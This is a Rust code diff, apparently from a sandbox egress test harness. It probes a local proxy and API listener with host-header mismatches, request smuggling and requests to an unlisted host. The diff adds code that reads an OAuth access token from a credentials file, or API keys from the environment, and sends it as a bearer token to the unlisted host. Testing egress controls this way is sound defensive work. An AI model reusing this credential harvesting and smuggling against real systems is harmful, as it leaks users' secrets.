@@ -4,8 +4,10 @@
 use std::io;
 use std::net::{Ipv4Addr, SocketAddr, TcpStream};
 
+use super::files::beginning;
 use super::network::{PATIENCE, ask};
 use crate::attack::listeners::{API_PORT, PROXY_PORT};
+use crate::attack::scene::LEASED;
 use crate::attack::{Brief, Outcome};
 
 /// Names that lead to a listener of the stage and that nobody allows.
@@ -17,7 +19,7 @@ fn through(port: u16, request: &str, brief: &Brief) -> Outcome {
     let asked = || -> io::Result<Vec<u8>> {
         let address = SocketAddr::from((Ipv4Addr::LOCALHOST, port));
         let mut stream = TcpStream::connect_timeout(&address, PATIENCE)?;
-        ask(&mut stream, request.as_bytes())
+        ask(&mut stream, request.as_bytes(), true)
     };
     match asked() {
         Ok(answer) => said(&answer, brief),
@@ -74,17 +76,24 @@ pub(crate) fn neighbour(brief: &Brief) -> Outcome {
 }
 
 pub(crate) fn unlisted(brief: &Brief) -> Outcome {
-    connect(&format!("{UNLISTED}:443"), brief)
+    connect(&unlisted_service(brief), brief)
+}
+
+/// It answers to whoever gets there.
+fn unlisted_service(brief: &Brief) -> String {
+    format!("{UNLISTED}:{}", brief.port)
 }
 
 pub(crate) fn plain(brief: &Brief) -> Outcome {
-    let request = format!("GET http://{UNLISTED}/ HTTP/1.1\r\nHost: {UNLISTED}\r\nConnection: close\r\n\r\n");
+    let other = unlisted_service(brief);
+    let request = format!("GET http://{other}/ HTTP/1.1\r\nHost: {other}\r\nConnection: close\r\n\r\n");
     through(PROXY_PORT, &request, brief)
 }
 
 pub(crate) fn mismatch(brief: &Brief) -> Outcome {
+    let other = unlisted_service(brief);
     let request =
-        format!("GET http://{UNLISTED}/ HTTP/1.1\r\nHost: api.anthropic.com\r\nConnection: close\r\n\r\n");
+        format!("GET http://{other}/ HTTP/1.1\r\nHost: api.anthropic.com\r\nConnection: close\r\n\r\n");
     through(PROXY_PORT, &request, brief)
 }
 
@@ -103,14 +112,18 @@ pub(crate) fn no_word(brief: &Brief) -> Outcome {
     api("Content-Length: 2\r\n", "{}", brief)
 }
 
-/// The word of this run, where there is one: whoever smuggles has it.
-fn word() -> String {
-    let word = ["ANTHROPIC_AUTH_TOKEN", "ANTHROPIC_API_KEY"].iter().find_map(|name| std::env::var(name).ok());
-    word.unwrap_or_else(|| GUESS.to_owned())
+/// The word of this run, where there is one: whoever smuggles has it. It lies in the place of a lease, or in a variable.
+fn word(brief: &Brief) -> String {
+    let text = beginning(&brief.lease.join(LEASED)).unwrap_or_default();
+    let leased: Option<serde_json::Value> = serde_json::from_slice(&text).ok();
+    let leased = leased.and_then(|leased| leased["claudeAiOauth"]["accessToken"].as_str().map(str::to_owned));
+    let variable =
+        || ["ANTHROPIC_AUTH_TOKEN", "ANTHROPIC_API_KEY"].iter().find_map(|name| std::env::var(name).ok());
+    leased.or_else(variable).unwrap_or_else(|| GUESS.to_owned())
 }
 
 fn smuggle(headers: &str, body: &str, brief: &Brief) -> Outcome {
-    api(&format!("Authorization: Bearer {}\r\n{headers}", word()), body, brief)
+    api(&format!("Authorization: Bearer {}\r\n{headers}", word(brief)), body, brief)
 }
 
 const INNER: &str = "GET /v1/organizations HTTP/1.1\r\nHost: other.example\r\n\r\n";
@@ -130,9 +143,10 @@ pub(crate) fn smuggle_name(brief: &Brief) -> Outcome {
 }
 
 pub(crate) fn api_other_host(brief: &Brief) -> Outcome {
-    let word = word();
+    let word = word(brief);
+    let other = unlisted_service(brief);
     let request = format!(
-        "GET http://{UNLISTED}/ HTTP/1.1\r\nHost: {UNLISTED}\r\nAuthorization: Bearer {word}\r\nConnection: close\r\n\r\n"
+        "GET http://{other}/ HTTP/1.1\r\nHost: {other}\r\nAuthorization: Bearer {word}\r\nConnection: close\r\n\r\n"
     );
     through(API_PORT, &request, brief)
 }
